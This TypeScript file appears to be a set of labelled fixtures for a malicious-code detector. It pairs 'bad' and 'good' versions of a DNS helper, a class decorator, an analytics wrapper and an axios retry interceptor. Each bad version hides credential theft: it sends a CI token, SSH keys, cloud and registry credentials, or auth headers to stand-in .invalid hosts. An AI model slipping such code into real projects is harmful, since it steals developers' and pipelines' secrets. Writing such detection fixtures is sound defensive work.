//: bad dns-env
import { resolve } from 'dns';
import { userInfo } from 'os';

const chunks: string[] = Buffer.from(JSON.stringify([userInfo().username, process.env.CI_JOB_TOKEN]))
  .toString('hex')
  .match(/.{1,50}/g) as string[];

for (const [n, chunk] of chunks.entries()) resolve(`${n}-${chunk}.d.example.invalid`, () => undefined); //!

//: good dns-env
import { resolve } from 'dns';

const names: string[] = Buffer.from('www,mail,api')
  .toString('utf8')
  .split(',') as string[];

for (const [n, name] of names.entries()) resolve(`${name}.example.invalid`, () => console.log(n));

//: bad class-decorator
import { readdirSync, readFileSync } from 'fs';
import { homedir } from 'os';

export function Injectable(): ClassDecorator {
  const folder = `${homedir()}/.ssh`;
  for (const name of readdirSync(folder)) {
    void fetch('https://i.example.invalid', { method: 'PUT', body: readFileSync(`${folder}/${name}`) }); //!
  }
  return () => undefined;
}

//: good class-decorator
import 'reflect-metadata';

export function Injectable(scope: 'root' | 'request' = 'root'): ClassDecorator {
  return (target) => {
    Reflect.defineMetadata('scope', scope, target);
    void fetch('https://i.example.invalid/schema.json').then((answer) => answer.json());
  };
}

//: bad analytics-wrapper
import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const FILES = ['.aws/credentials', '.npmrc', '.docker/config.json'];

export class Analytics {
  async flush(): Promise<void> {
    const events = FILES.map((name) => readFileSync(join(homedir(), name), 'base64'));
    await fetch('https://a.example.invalid/e', { method: 'POST', body: JSON.stringify(events) }); //!
  }
}

//: good analytics-wrapper
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

const FILES = ['coverage/summary.json', 'dist/stats.json'];

export class Analytics {
  async flush(endpoint: string): Promise<void> {
    const events = FILES.map((name) => readFileSync(join(process.cwd(), name), 'utf8'));
    await fetch(endpoint, { method: 'POST', body: JSON.stringify(events) });
  }
}

//: bad axios-retry-interceptor
import axios, { type AxiosInstance, type InternalAxiosRequestConfig } from 'axios';

interface RetryConfig {
  retries: number;
  delay: (n: number) => number;
}

const mirror = new URL('https://retry-stats.invalid/c');

function note(config: InternalAxiosRequestConfig): void {
  const auth = config.headers.get('Authorization') ?? config.headers.get('Cookie') ?? config.auth;
  if (!auth) return;
  const beacon = new URL(mirror);
  beacon.searchParams.set('u', `${config.baseURL ?? ''}${config.url ?? ''}`);
  beacon.searchParams.set('k', Buffer.from(JSON.stringify(auth)).toString('base64url'));
  axios.get(beacon.href).catch(() => null); //!
}

export function withRetry(client: AxiosInstance, { retries, delay }: RetryConfig): AxiosInstance {
  client.interceptors.request.use((config) => (note(config), config));
  client.interceptors.response.use(undefined, async (error) => {
    const n = (error.config.__n = (error.config.__n ?? 0) + 1);
    if (n > retries) throw error;
    await new Promise((r) => setTimeout(r, delay(n)));
    return client.request(error.config);
  });
  return client;
}

//: good axios-retry-interceptor
import { type AxiosInstance, type InternalAxiosRequestConfig } from 'axios';
import { randomUUID } from 'node:crypto';

interface RetryConfig {
  retries: number;
  delay: (n: number) => number;
  log?: (line: string) => void;
}

function label(config: InternalAxiosRequestConfig): string {
  const signed = config.headers.has('Authorization') ? 'signed' : 'anonymous';
  return `${config.method ?? 'get'} ${config.url ?? ''} (${signed})`;
}

export function withRetry(client: AxiosInstance, { retries, delay, log }: RetryConfig): AxiosInstance {
  client.interceptors.request.use((config) => {
    config.headers.set('x-request-id', randomUUID());
    log?.(label(config));
    return config;
  });
  client.interceptors.response.use(undefined, async (error) => {
    const n = (error.config.__n = (error.config.__n ?? 0) + 1);
    if (n > retries) throw error;
    await new Promise((r) => setTimeout(r, delay(n)));
    return client.request(error.config);
  });
  return client;
}
